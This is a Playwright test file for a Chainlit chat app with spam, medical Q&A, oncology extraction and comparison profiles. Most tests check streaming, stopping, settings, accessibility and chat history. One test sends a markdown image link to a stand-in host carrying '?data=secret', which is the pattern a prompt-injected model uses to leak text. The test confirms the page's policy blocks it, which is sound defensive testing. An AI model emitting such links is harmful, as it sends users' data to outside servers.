    page.wait_for_selector("text=/Processed \\d+ of 640 texts/", timeout=ANSWER_TIMEOUT * 1000)
    page.click("#stop-button")
    wait_idle(page)
    stopped = page.wait_for_selector("text=/Stopped by you after [\\d,]+ of 640 texts/")
    done = int(re.search(r"after ([\d,]+) of 640", stopped.inner_text())[1].replace(",", ""))
    assert 0 < done < 640
    link = page.locator('a.inline-file[download="many-spam-results.csv"]')  # as Chat and Compare keep theirs
    rows = list(csv.reader(io.StringIO(page.request.get(link.get_attribute("href")).body().decode("utf-8-sig"))))
    assert len(rows) == done + 1 and [r[0] for r in rows[1:3]] == ["1", "2"]  # the first texts, by line
    assert page.locator("text=Something went wrong").count() == 0
    # the upload was the chat's first message: the stored chat is named after its profile and the
    # file (Chainlit names a chat after its first message's text, here none)
    with sqlite3.connect(server.database) as db:
        names = db.execute('SELECT "name" FROM threads WHERE "id" IN (SELECT "threadId" FROM steps '
                           'WHERE "output" LIKE ?)', ("%Stopped by you after % of 640 texts%",)).fetchall()
    assert names == [("Spam check · many.txt",)], names
    with sqlite3.connect(server.database) as db:
        sent = db.execute('SELECT "output", "metadata" FROM steps WHERE "type" = ? AND "threadId" IN (SELECT "threadId" '
                          'FROM steps WHERE "output" LIKE ?)', ("user_message", "%of 640 texts%")).fetchall()
    assert [(output, json.loads(metadata).get("files")) for output, metadata in sent] == [("📎 many.txt", ["many.txt"])]
    page.context.close()


def test_medical_qa_streams_keeps_history_and_shows_the_rendered_prompt(server, browser):
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    choose_profile(page, "Medical Q&A")
    # settings panel: 64 new tokens and the rendered prompt switched on
    set_max_new_tokens(page, 64)
    page.get_by_role("dialog").get_by_role("switch", name="Show the rendered prompt").click()
    page.get_by_role("button", name="Confirm").click()
    clicked = time.perf_counter()
    send(page, f"What are the symptoms of glaucoma? ({SECRET})")
    message = answers(page).first
    message.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    TIMINGS["medical_first_token_in_browser_s"] = time.perf_counter() - clicked
    seen = set()
    while page.locator("#stop-button").count():
        seen.add(len(message.inner_text()))
        page.wait_for_timeout(40)
    assert len(seen) >= 3, f"the answer did not arrive in pieces: lengths seen {sorted(seen)}"
    wait_idle(page)
    text = message.inner_text()
    assert "Not medical advice" in text and "first token" in text
    assert "most dangerous" not in text  # the dose and pregnancy notice is for such questions only
    TIMINGS["medical_first_token_server_s"] = float(re.search(r"first token (\d+\.\d+) s", text).group(1))
    assert re.search(r"\d+ prompt tokens, \d+ generated", text)
    assert "cut at the 64-token limit" in text  # MedQuAD answers run longer than 64 tokens
    prompt_title = page.locator("text=/Rendered prompt · \\d+ tokens/").first
    assert prompt_title.count() == 1
    shot(page, "07-medical-qa")
    send(page, "How is it treated?")
    page.wait_for_function("() => document.querySelectorAll('[data-step-type=assistant_message]').length >= 2",
                           timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    # the second turn's rendered prompt holds the first question and answer: history within the session
    page.locator("text=/Rendered prompt · \\d+ tokens/").last.click()
    page.wait_for_selector("text=/What are the symptoms of glaucoma\\?/ >> nth=1")
    shot(page, "08-medical-qa-second-turn")
    page.context.close()


def test_icon_buttons_have_names_and_the_keyboard_returns_to_the_message_box(server, browser):
    """Chainlit's icon-only buttons get names a screen reader can say (``public/adapterlab.js``), and
    focus goes back to the message box when the settings dialog closes or Stop ends an answer
    (before, it fell to the page, many Tab presses away)."""
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    for name in ("New chat", "Attach files", "Settings", "Send message", "Close the panel"):
        assert page.get_by_role("button", name=name, exact=True).is_visible(), name
    assert page.get_by_role("textbox", name="Message", exact=True).is_visible()
    focused = "() => document.activeElement.id"

    page.get_by_role("button", name="Settings", exact=True).focus()
    page.keyboard.press("Enter")
    page.get_by_role("dialog").wait_for()
    for name in ("Temperature", "Top-p", "Max new tokens"):  # sliders, named by their labels
        assert page.get_by_role("slider", name=name, exact=True).count() == 1, name
    page.keyboard.press("Escape")
    page.get_by_role("dialog").wait_for(state="detached")
    page.wait_for_function(f"({focused})() === 'chat-input'", timeout=5000)

    page.keyboard.type("Write a long story about a lighthouse keeper.")
    page.keyboard.press("Enter")
    stop = page.get_by_role("button", name="Stop the answer", exact=True)
    stop.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    answers(page).first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    stop.focus()
    page.keyboard.press("Enter")
    page.wait_for_selector("text=/stopped by you/", timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_function(f"({focused})() === 'chat-input'", timeout=5000)
    assert page.get_by_role("button", name="Send message", exact=True).is_visible()  # the name follows the id
    # "New chat" asks first: without login nothing else keeps the conversation, and it says so
    page.get_by_role("button", name="New chat", exact=True).first.click()
    page.get_by_role("dialog").get_by_text(
        "The current conversation is not kept (without signing in there is no chat history)").wait_for()
    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    assert answers(page).count() >= 1
    page.context.close()


def test_the_settings_go_back_to_the_profiles_defaults(server, browser):
    """Chainlit's "Reset" in the settings dialog put back the values the dialog opened with: a
    confirmed pirate system prompt and temperature 1.5 stayed after Reset and Confirm, and answers
    went on using them. The button is called "Undo changes", and "Restore the profile's defaults"
    shows the defaults in the dialog at once; Confirm keeps them, Cancel does not."""
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    dialog = page.get_by_role("dialog")

    def shown():
        return (dialog.locator("textarea").input_value(),
                page.get_by_role("slider", name="Temperature", exact=True).get_attribute("aria-valuenow"))

    page.click("#chat-settings-open-modal")
    default = shown()
    dialog.locator("textarea").fill("Answer like a pirate.")
    temperature = page.get_by_role("slider", name="Temperature", exact=True)
    temperature.focus()
    temperature.press("End")
    dialog.get_by_role("button", name="Confirm").click()
    dialog.wait_for(state="detached")
    page.click("#chat-settings-open-modal")
    assert shown() == ("Answer like a pirate.", "1.5")
    assert dialog.get_by_role("button", name="Reset").count() == 0  # it only ever undid unsaved edits
    restore = dialog.get_by_role("switch", name="Restore the profile's defaults")
    restore.click()
    page.wait_for_function("() => document.querySelector('#chat-settings textarea').value === ''")
    assert shown() == default and restore.get_attribute("aria-checked") == "false"
    dialog.get_by_role("button", name="Cancel").click()  # keeps the settings as they were
    dialog.wait_for(state="detached")
    page.click("#chat-settings-open-modal")
    assert shown() == ("Answer like a pirate.", "1.5")
    restore.click()
    page.wait_for_function("() => document.querySelector('#chat-settings textarea').value === ''")
    dialog.get_by_role("switch", name="Show the rendered prompt").click()
    dialog.get_by_role("button", name="Confirm").click()
    dialog.wait_for(state="detached")
    page.click("#chat-settings-open-modal")
    assert shown() == default
    page.keyboard.press("Escape")
    dialog.wait_for(state="detached")
    send(page, "Say hi")  # the answer uses the defaults: no pirate in the prompt it was given
    page.locator("text=/Rendered prompt · \\d+ tokens/").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    page.locator("text=/Rendered prompt · \\d+ tokens/").first.click()
    page.get_by_text("<|im_start|>user", exact=False).first.wait_for()
    assert "pirate" not in page.inner_text("body")
    page.context.close()


def test_stop_keeps_the_partial_answer_in_the_chat_and_the_history(server, browser):
    page = new_page(browser, server)
    open_app(page, server)
    wait_model_ready(page, server)
    choose_profile(page, "Medical Q&A")
    page.click("#chat-settings-open-modal")
    page.get_by_role("dialog").get_by_role("switch", name="Show the rendered prompt").click()
    page.get_by_role("button", name="Confirm").click()
    message = ask_and_wait_for_words(page, "What are the symptoms of glaucoma?")  # still streaming when stopped
    page.click("#stop-button")
    wait_idle(page)
    page.wait_for_selector("text=/stopped by you/")
    stopped = message.inner_text()
    assert "Not medical advice" in stopped and re.search(r"\d+ prompt tokens, \d+ generated", stopped)
    assert "cut at the" not in stopped
    shot(page, "08b-medical-qa-stopped")
    # stored as it was shown, with the text it had; Chainlit's own "Task manually stopped." said it twice
    stored_answer(server.database, "stopped by you")
    with sqlite3.connect(server.database) as db:
        rows = db.execute('SELECT "output", "metadata" FROM steps WHERE "type" = ? ORDER BY "createdAt"',
                          ("assistant_message",)).fetchall()
    assert not [o for o, _ in rows if o == "Task manually stopped."]
    assert page.get_by_text("Task manually stopped.").count() == 0
    kept = json.loads(next(m for o, m in reversed(rows) if "stopped by you" in o))["answer"]  # this test's
    assert kept and stopped.startswith(kept.split()[0])
    with sqlite3.connect(server.database) as db:  # a stop is not a failure: no step marked as an error
        failed = db.execute('SELECT "name", "output" FROM steps WHERE "isError" AND "threadId" = '
                            '(SELECT "threadId" FROM steps WHERE "output" LIKE ?)', ("%stopped by you%",)).fetchall()
    assert failed == []
    set_max_new_tokens(page, 16)
    page.get_by_role("button", name="Confirm").click()
    send(page, "How is it treated?")
    page.wait_for_selector("text=/Rendered prompt · \\d+ tokens/ >> nth=1", timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    # the stopped exchange is part of the conversation the model sees next
    page.locator("text=/Rendered prompt · \\d+ tokens/").last.click()
    page.wait_for_selector("text=/What are the symptoms of glaucoma\\?/ >> nth=1")
    page.context.close()


def test_oncology_extraction_shows_the_seven_fields_and_a_batch(server, browser, tmp_path):
    page = new_page(browser, server)
    open_app(page, server)
    choose_profile(page, "Oncology extraction")
    page.get_by_text("Lung adenocarcinoma").click()
    answers(page).first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    message = answers(page).last
    fields = [c.inner_text() for c in message.locator("table").first.locator("tbody tr td:first-child").all()]
    assert fields == ["cancer_type", "stage", "gene_mutation", "biomarker", "treatment", "response",
                      "metastasis_site"]
    assert [h.inner_text() for h in message.locator("table").first.locator("th").all()] == [
        "field", "value", "in your text"]
    text = message.inner_text()
    assert re.search(r"Valid JSON|Repaired output|Invalid output", text)
    assert re.search(r"total \d+\.\d+ s · \d+ prompt tokens, \d+ generated", text), text
    assert '"cancer_type"' in text and "Not for clinical decisions" in text
    shot(page, "09-oncology")
    # a batch: two narratives in a .txt file, one a line (64 new tokens each, to keep the test short)
    set_max_new_tokens(page, 64)
    page.get_by_role("button", name="Confirm").click()
    notes = tmp_path / "notes.txt"
    notes.write_text("Stage IV melanoma with BRAF V600E, started on dabrafenib and trametinib.\n"
                     "Follow-up: breast cancer, HER2 positive, complete response after trastuzumab.\n")
    page.set_input_files("#upload-button-input", str(notes))
    page.wait_for_selector("#attachments :text('notes.txt')")
    page.click("#chat-submit")
    page.wait_for_selector("h3:has-text('2 texts from')", timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    table = answers(page).last.locator("table").first
    assert [h.inner_text() for h in table.locator("th").all()][2:9] == fields
    assert table.locator("tbody tr").count() == 2 and answers(page).last.locator("table").count() == 1
    assert page.locator('a.inline-file[download="notes-oncology-results.csv"]').count() == 1
    shot(page, "10-oncology-upload")
    page.context.close()


def test_compare_answers_in_three_labelled_columns(server, browser):
    page = new_page(browser, server)
    open_app(page, server)
    choose_profile(page, "Compare")
    page.get_by_text("Spam: three ways").click()
    page.wait_for_selector("text=/Compare · spam/", timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    headers = [h.inner_text() for h in answers(page).last.locator("table th").all()]
    assert headers[1:] == ["base", "few-shot" if "few-shot (" not in headers[2] else headers[2], "fine-tuned"]
    rows = {r.locator("td").first.inner_text(): r for r in answers(page).last.locator("tbody tr").all()}
    assert {"label", "p(ham)", "p(spam)", "latency", "tokens", "status"} <= set(rows)
    assert re.search(r"[<>]?\d+\.\d%", rows["p(spam)"].locator("td").nth(1).inner_text())
    shot(page, "11-compare")
    page.context.close()


def test_stopping_a_comparison_keeps_the_columns_that_ran(server, browser):
    """Stop during Compare left only Chainlit's "Task manually stopped.": the base column's answer,
    done, and the few-shot one streaming were thrown away."""
    page = new_page(browser, server)
    open_app(page, server)
    choose_profile(page, "Compare")
    page.get_by_text("Medical: three ways").click()
    # a message says which column runs (~16 s each on this CPU) and shows its answer as it comes
    page.wait_for_selector("text=/Comparing on medquad: running base \\(1 of 3\\)/", timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_selector("text=/running base \\(1 of 3\\)…\\s+\\S+.* ▌/", timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_selector("text=/running few-shot .*\\(2 of 3\\)/", timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_timeout(1500)  # a few of its words
    page.click("#stop-button")
    page.wait_for_selector("text=/Compare · medquad/", timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    assert page.get_by_text("Comparing on").count() == 0  # the progress message goes with the result
    table = answers(page).filter(has_text="Compare · medquad").last
    rows = {r.locator("td").first.inner_text(): r for r in table.locator("tbody tr").all()}
    status = [c.inner_text() for c in rows["status"].locator("td").all()[1:]]
    assert status[0] == "ran" and "stopped by you" in status[2], status
    # the stopped column counts its prompt as the column that ran does (it had said only "61 out")
    tokens = [c.inner_text() for c in rows["tokens"].locator("td").all()[1:]]
    assert all(re.match(r"\d+ in / \d+ out", t) for t in tokens[:2]), tokens
    # the columns' names each on one line: "fine-tuned", squeezed beside two answers, had broken at its hyphen
    assert [lines_of(th) for th in table.locator("thead th").all()[1:]] == [1, 1, 1]
    assert rows["answer"].locator("td").nth(1).inner_text().strip() not in ("", "—", "(empty)")
    shot(page, "11b-compare-stopped")
    # the settings panel names the adapter the command picked, not the one it said before
    page.click("#chat-settings-open-modal")
    assert "medquad" in page.locator("#compare_adapter").inner_text()
    page.keyboard.press("Escape")
    page.context.close()


def lines_of(element) -> int:
    """How many lines the element's text takes on the page."""
    return element.evaluate("e => { const r = document.createRange(); r.selectNodeContents(e); "
                            "return new Set([...r.getClientRects()].map(x => Math.round(x.top))).size; }")


PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True,
         "user_agent": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 "
                       "(KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1"}


def test_on_a_phone_the_chat_stays_uncovered_and_tables_and_prompts_stay_readable(server, browser):
    page = browser.new_context(**PHONE).new_page()
    page.set_default_timeout(30_000)
    open_app(page, server)
    choose_profile(page, "Compare")
    page.get_by_text("Spam: three ways").click()
    page.wait_for_selector("text=/Compare · spam/", timeout=MODEL_READY_TIMEOUT * 1000)
    wait_idle(page)
    # below 768 px Chainlit lays the status panel over the chat: a phone does not get it
    assert page.locator("#side-view-content").count() == 0
    # Compare's command buttons show only their icons here: they have names all the same
    for command in ("spam", "medquad", "oncology"):
        assert page.get_by_role("button", name=command, exact=True).count() == 1, command
    # the three columns' table: wider than a phone, it scrolls, and its row names stay in view
    table = answers(page).last.locator("table").first
    box = table.locator("xpath=..")
    box.evaluate("e => { e.scrollLeft = e.scrollWidth; }")
    page.wait_for_timeout(200)
    left = box.bounding_box()["x"]
    assert table.locator("tbody td").first.bounding_box()["x"] >= left - 1
    assert table.locator("thead th").last.bounding_box()["x"] < left + box.bounding_box()["width"]
    shot(page, "15-phone-compare")
    # the rendered prompt wraps: its <|im_end|> markers at the line ends are in view
    page.click("#chat-settings-open-modal")
    page.get_by_role("dialog").get_by_role("switch", name="Show the rendered prompt").click()
    page.get_by_role("button", name="Confirm").click()
    send(page, "Hi, it's Sam. Are we still on for the study group at the library tomorrow at six?")
    page.wait_for_selector("text=/Rendered prompt · \\d+ tokens/", timeout=ANSWER_TIMEOUT * 1000)
    wait_idle(page)
    code = page.locator("pre code").first
    code.wait_for()
    assert code.evaluate("e => e.scrollWidth <= e.parentElement.clientWidth + 1"), "the rendered prompt runs off the screen"
    shot(page, "16-phone-rendered-prompt")
    page.context.close()


def test_two_sessions_with_different_adapters_get_their_own_answers(server, browser):
    spam, medical = new_page(browser, server), new_page(browser, server)
    for page, profile in ((spam, "Spam check"), (medical, "Medical Q&A")):
        open_app(page, server)
        choose_profile(page, profile)
    set_max_new_tokens(medical, 96)
    medical.get_by_role("button", name="Confirm").click()
    send(medical, "What causes high blood pressure in pregnancy?")
    send(spam, "Hi mum, I'll be home late tonight, keep some dinner for me")
    for page in (spam, medical):
        answers(page).first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
        wait_idle(page)
    assert answers(spam).count() == 1 and answers(medical).count() == 1
    spam_text, medical_text = answers(spam).first.inner_text(), answers(medical).first.inner_text()
    assert "probability" in spam_text and "Not medical advice" not in spam_text
    assert "Not medical advice" in medical_text and "probability" not in medical_text
    assert "Doses, and safety in pregnancy or breastfeeding, are where this model is most dangerous" in medical_text
    shot(spam, "12-two-sessions-spam")
    shot(medical, "13-two-sessions-medical")
    for page in (spam, medical):
        page.context.close()


def test_an_answer_asked_while_another_streams_starts_at_once(server, browser):
    """On a 2-core CPU one user's answer holds the model for tens of seconds. Another user's question
    asked meanwhile joins it between two decoding steps (adapters/row_decoding.py): its words stream
    while the first answer is still streaming, with no "busy" notice, and both are stored."""
    first, second = new_page(browser, server), new_page(browser, server)
    for page in (first, second):
        open_app(page, server)
        wait_model_ready(page, server)
        choose_profile(page, "Medical Q&A")
    ask_and_wait_for_words(first, "What are the symptoms of glaucoma?")  # up to 256 tokens: ~20 s here
    ask_and_wait_for_words(second, "How is asthma treated?")
    assert first.locator("#stop-button").is_visible(), "the first answer ended before the second one started"
    shot(second, "14-two-answers-at-once")
    assert "busy with other requests" not in answers(second).first.inner_text()
    wait_idle(first)
    wait_idle(second)
    for page, question in ((first, "glaucoma"), (second, "asthma")):
        stored = stored_answer(server.database, "Not medical advice", thread_of=f"%{question}%")
        assert "the model produced no text" not in stored and "busy with other requests" not in stored
    for page in (first, second):
        page.context.close()


def test_a_markdown_image_in_a_message_is_not_fetched(server, browser):
    """A message (or an answer copying it) with ``![x](http://host/pixel?data=...)`` made the browser
    fetch that URL: how a prompt-injected model leaks text. Images may come only from this server."""
    page = new_page(browser, server)
    response = page.goto(server.url)
    assert "img-src 'self' data: blob:" in (response.headers.get("content-security-policy") or "")
    page.wait_for_selector("#chat-input")
    wait_model_ready(page, server)
    choose_profile(page, "Spam check")
    failures, answered = {}, []
    page.on("requestfailed", lambda r: failures.__setitem__(r.url, r.failure))
    page.on("response", lambda r: answered.append(r.url) if "203.0.113.9" in r.url else None)
    send(page, "Hi ![pixel](http://203.0.113.9/track.png?data=secret)")
    answers(page).filter(has_text="probability").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
    # the user's bubble is not markdown (.chainlit/config.toml, user_message_markdown): no image there
    bubble = page.locator("[data-step-type=user_message]").last
    assert bubble.inner_text().strip() == "Hi ![pixel](http://203.0.113.9/track.png?data=secret)"
    assert bubble.locator("img").count() == 0
    # an answer's image (a model copying it) is refused by the page's policy: an image put on the page
    url = "http://203.0.113.9/track.png?data=secret"
    page.evaluate("url => document.body.appendChild(Object.assign(new Image(), {src: url}))", url)
    page.wait_for_timeout(500)
    # the browser refuses it before any connection (Playwright still lists the refused request)
    assert "csp" in (failures.get(url) or "").lower() and not answered, (failures, answered)
    OUTSIDE.remove(url)  # refused, not sent: the last test checks that nothing else left the page
    page.context.close()


def test_nothing_left_this_machine_and_no_message_text_in_the_log(server):
    assert OUTSIDE == [], f"the page requested other hosts: {OUTSIDE[:5]}"
    log = server.log_text()
    assert SECRET not in log and "glaucoma" not in log.lower()
    assert "Traceback" not in log, log[-3000:]
    assert "WARNING" not in log, log[-3000:]  # Chainlit's expected-state warnings are filtered out


def stored_step_outputs(database: Path, name: str, thread_of: str, timeout: float = 15) -> list[str]:
    """The outputs of the steps called ``name`` in the chat with a message ``LIKE thread_of``, once
    there is one (waits for the write)."""
    return stored_step_values(database, "output", name, thread_of, timeout)


def stored_step_values(database: Path, column: str, name: str, thread_of: str, timeout: float = 15) -> list[str]:
    """``column`` ("input", "output") of the steps called ``name`` in the chat with a message ``LIKE
    thread_of``, once there is one (waits for the write)."""
    assert column in ("input", "output"), column
    deadline = time.monotonic() + timeout
    while True:
        with sqlite3.connect(database) as db:
            values = [row[0] for row in db.execute(
                f'SELECT "{column}" FROM steps WHERE "name" = ? AND "{column}" != \'\' AND "threadId" IN '
                '(SELECT "threadId" FROM steps WHERE "output" LIKE ?)', (name, thread_of))]
        if values or time.monotonic() > deadline:
            return values
        time.sleep(0.25)


def stored_answer(database: Path, text: str, timeout: float = 15, thread_of: str = "%") -> str:
    """The first assistant message stored in the chat history that contains ``text`` (waits for the
    write), in the chat with a message ``LIKE thread_of`` (default: any)."""
    deadline = time.monotonic() + timeout
    while True:
        with sqlite3.connect(database) as db:
            outputs = [row[0] or "" for row in db.execute(
                'SELECT "output" FROM steps WHERE "type" = ? AND "threadId" IN '
                '(SELECT "threadId" FROM steps WHERE "output" LIKE ?)', ("assistant_message", thread_of))]
        found = [o for o in outputs if text in o]
        if found:
            return found[0]
        assert time.monotonic() < deadline, f"no stored assistant message contains {text!r}: {outputs}"
        time.sleep(0.25)


def test_password_login_and_resumed_history(tmp_path, browser, tiny_base, catalog):
    """A second app on the tiny model: login from environment variables, and a conversation that is
    stored in SQLite and comes back from the history sidebar."""
    srv = Server(tmp_path, {"ADAPTERLAB_BASE_MODEL": str(tiny_base), "ADAPTERLAB_CATALOG": str(catalog), **LOGIN},
                 name="server-login", own_root=True)
    try:
        srv.wait_healthy()
        page = new_page(browser, srv)
        page.goto(srv.url)
        page.get_by_label("User name", exact=True).fill("ana")  # the login is a user name, not an email
        page.fill("#password", "wrong")
        page.get_by_role("button", name=re.compile("continue|sign in|log in", re.I)).click()
        page.get_by_text("Wrong user name or password.", exact=True).wait_for()
        page.wait_for_timeout(500)  # the raw toast came with the form's message
        raw = page.get_by_text(re.compile("credentialssignin", re.I))
        assert not any(raw.nth(i).is_visible() for i in range(raw.count())), "the raw error toast is shown"
        page.fill("#password", "s3cret-pw")
        page.get_by_role("button", name=re.compile("continue|sign in|log in", re.I)).click()
        page.wait_for_selector("#chat-input")
        choose_profile(page, "Spam check")
        send(page, "Remember the milk")
        answers(page).first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
        wait_idle(page)
        # the icon buttons a signed-in page adds have names too (public/adapterlab.js); the closed
        # history sidebar's are hidden (public/adapterlab.css), so it is opened first
        if page.locator("#thread-history").evaluate("e => e.getBoundingClientRect().right <= 0"):  # closed
            page.get_by_role("button", name="Show or hide the chat history").last.click()
        for name in ("Copy", "Helpful", "Not helpful", "Show or hide the chat history", "Search chats", "New chat"):
            assert page.get_by_role("button", name=name, exact=True).count() >= 1, name
        # thumbs up with a comment: stored through Chainlit's data layer
        page.locator("[data-step-type=assistant_message] button").filter(
            has=page.locator(".lucide-thumbs-up")).first.click()
        page.get_by_role("dialog").locator("textarea").fill("right label")
        page.click("#submit-feedback")
        page.wait_for_timeout(1000)
        with sqlite3.connect(tmp_path / "history.sqlite3") as db:
            assert db.execute('SELECT "value", "comment" FROM feedbacks').fetchall() == [(1, "right label")]
            assert ("Remember the milk",) in db.execute('SELECT "output" FROM steps').fetchall()
        stored_answer(tmp_path / "history.sqlite3", "probability")  # the answer too, before resuming
        # saved after the message, with the page still open (Chainlit saves only at disconnect, and a
        # second tab resumed the chat as a plain Chat); the conversation is not copied into it
        deadline = time.monotonic() + 15  # saved once the message's handler ends, just after its answer
        while True:
            with sqlite3.connect(tmp_path / "history.sqlite3") as db:
                [(metadata,)] = db.execute('SELECT "metadata" FROM threads').fetchall()
            metadata = json.loads(metadata or "{}")
            if metadata.get("chat_profile") or time.monotonic() > deadline:
                break
            time.sleep(0.25)
        assert metadata.get("chat_profile") == "Spam check" and "history" not in metadata, metadata
        page.goto(srv.url)
        page.wait_for_selector("#chat-input")
        # named with its profile: the history lists every profile's chats together
        thread = page.locator("#thread-history a").filter(has_text="Spam check · Remember the milk").first
        href = thread.get_attribute("href")
        for attempt in range(2):
            page.goto(srv.url + href)  # the history sidebar's link to the thread
            try:
                page.locator("[data-step-type=assistant_message]").filter(has_text="probability").first.wait_for(
                    timeout=30_000)
                break
            except sync_api.TimeoutError:
                # Chainlit occasionally leaves a resumed thread empty on a loaded 2-core machine (the
                # thread is stored, see stored_answer); one reload is what a user would do
                if attempt:
                    raise
        page.locator("[data-step-type=user_message]").filter(has_text="Remember the milk").first.wait_for()
        shot(page, "14-login-resumed-thread")
        # rename from the history with the keyboard: Enter confirms (public/adapterlab.js)
        if page.locator("#thread-history").evaluate("e => e.getBoundingClientRect().right <= 0"):  # closed
            page.get_by_role("button", name="Show or hide the chat history").last.click()
        page.locator("#thread-history li").filter(has_text="Remember the milk").first.hover()
        page.locator('#thread-history [aria-label="Chat options"]').first.click()
        page.get_by_role("menuitem", name="Rename").click()
        dialog = page.get_by_role("dialog")
        assert dialog.get_by_text("Rename Chat", exact=True).is_visible()  # Chainlit's "Rename Thread"
        page.get_by_label("Name", exact=True).fill("Milk reminder")
        page.keyboard.press("Enter")
        dialog.wait_for(state="hidden")
        page.locator("#thread-history a").filter(has_text="Milk reminder").first.wait_for()
        with sqlite3.connect(tmp_path / "history.sqlite3") as db:
            assert db.execute('SELECT "name" FROM threads').fetchall() == [("Milk reminder",)]
        # 390 px wide: a long profile name stays on one line beside the signed-in user's avatar (it
        # wrapped, and pushed the avatar off the screen)
        page.set_viewport_size({"width": 390, "height": 844})
        # a desktop browser (a phone, told by its user agent, gets no status panel): narrower than
        # 768 px, Chainlit lays the resumed chat's status panel over the chat, in a dialog of its own
        sheet = page.get_by_role("dialog").filter(has=page.locator("#side-view-content"))
        sheet.wait_for()
        page.keyboard.press("Escape")  # not its close button: the pointer left there, over the rename's toast,
        sheet.wait_for(state="detached")  # kept that toast (and it covered the profile selector)
        choose_profile(page, "Oncology extraction")
        shot(page, "14b-phone-header-signed-in")
        selector = page.locator("#chat-profiles").bounding_box()
        # the new chat's status panel comes as a sheet that slides in from the right edge (CI measured
        # it mid-slide once): what is past the edge must stay there, not be on its way in
        deadline = time.monotonic() + 5
        while True:
            past_the_edge = page.evaluate("[...document.querySelectorAll('body *')].filter("
                                          "e => e.getBoundingClientRect().right > 391).map(e => e.id || e.tagName)")
            if not past_the_edge or time.monotonic() > deadline:
                break
            page.wait_for_timeout(250)
        assert selector["height"] < 44 and not past_the_edge, past_the_edge
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        page.context.close()
    finally:
        srv.stop()


def sign_in(page, server, user: str = LOGIN["ADAPTERLAB_APP_USER"],
            password: str = LOGIN["ADAPTERLAB_APP_PASSWORD"]) -> None:
    page.goto(server.url)
    page.get_by_label("User name", exact=True).fill(user)
    page.fill("#password", password)
    page.get_by_role("button", name=re.compile("continue|sign in|log in", re.I)).click()
    page.wait_for_selector("#chat-input")


def test_a_deleted_chats_address_says_so_and_opens_a_new_chat(tmp_path, browser, tiny_base, catalog):
    """Delete a chat from the history, then open its old address: the page says the chat no longer
    exists (Chainlit showed a blank chat, with a toast for four seconds), and the chat it opens is a
    new one: its first message is answered and stored under a new id (it was refused as sent in the
    deleted chat)."""
    srv = Server(tmp_path, {"ADAPTERLAB_BASE_MODEL": str(tiny_base), "ADAPTERLAB_CATALOG": str(catalog), **LOGIN},
                 name="server-deleted-chat", own_root=True)
    try:
        srv.wait_healthy()
        page = new_page(browser, srv)
        sign_in(page, srv)
        wait_model_ready(page, srv)  # (its first answer, sent at once, did not come once in six runs)
        send(page, "Buy eggs")
        answers(page).first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
        wait_idle(page)
        page.wait_for_url(re.compile(r"/thread/[0-9a-f-]+$"))
        address = page.url
        deleted = address.rsplit("/", 1)[1]
        page.goto(srv.url)
        page.wait_for_selector("#chat-input")
        if page.locator("#thread-history").evaluate("e => e.getBoundingClientRect().right <= 0"):  # closed
            page.get_by_role("button", name="Show or hide the chat history").last.click()
        page.locator("#thread-history li").filter(has_text="Buy eggs").first.hover()
        page.locator('#thread-history [aria-label="Chat options"]').first.click()
        page.get_by_role("menuitem", name="Delete").click()
        page.get_by_role("button", name="Confirm", exact=True).click()  # "Confirm deletion"
        page.locator("#thread-history li").filter(has_text="Buy eggs").first.wait_for(state="detached")
        with sqlite3.connect(srv.database) as db:
            assert db.execute('SELECT "id" FROM threads').fetchall() == []
        page.goto(address)
        page.get_by_text("The chat at this address no longer exists").wait_for()
        raw = page.get_by_text(re.compile("Thread not found", re.I))  # Chainlit's toast, said in the chat
        assert not any(raw.nth(i).is_visible() for i in range(raw.count())), "the raw toast is shown"
        shot(page, "15-deleted-chat-address")
        send(page, "Buy milk")
        answers(page).filter(has_text="prompt tokens").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
        wait_idle(page)
        assert page.get_by_text("This chat was deleted").count() == 0
        stored_answer(srv.database, "prompt tokens", thread_of="Buy milk")
        with sqlite3.connect(srv.database) as db:
            threads = db.execute('SELECT "id", "name" FROM threads').fetchall()
            notices = db.execute('SELECT COUNT(*) FROM steps WHERE "output" LIKE ?', ("%no longer exists%",)).fetchone()
        assert len(threads) == 1 and threads[0][0] != deleted and threads[0][1] == "Chat · Buy milk", threads
        assert notices == (0,)  # the notice belongs to no chat: shown, not stored
        page.wait_for_url(re.compile(rf"/thread/{threads[0][0]}$"))
        page.context.close()
        # on a phone too, where Chainlit's history sidebar (which moves a chat to its address) is not
        # mounted: the address kept the deleted id, and a reload said "no longer exists" again
        phone = browser.new_context(**PHONE).new_page()
        phone.set_default_timeout(30_000)
        sign_in(phone, srv)
        phone.goto(address)
        phone.get_by_text("The chat at this address no longer exists").wait_for()
        send(phone, "Buy bread")
        answers(phone).filter(has_text="prompt tokens").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
        phone.wait_for_url(re.compile(r"/thread/(?!" + deleted + r")[0-9a-f-]+$"), timeout=10_000)
        stored_answer(srv.database, "prompt tokens", thread_of="Buy bread")
        phone.context.close()
    finally:
        srv.stop()


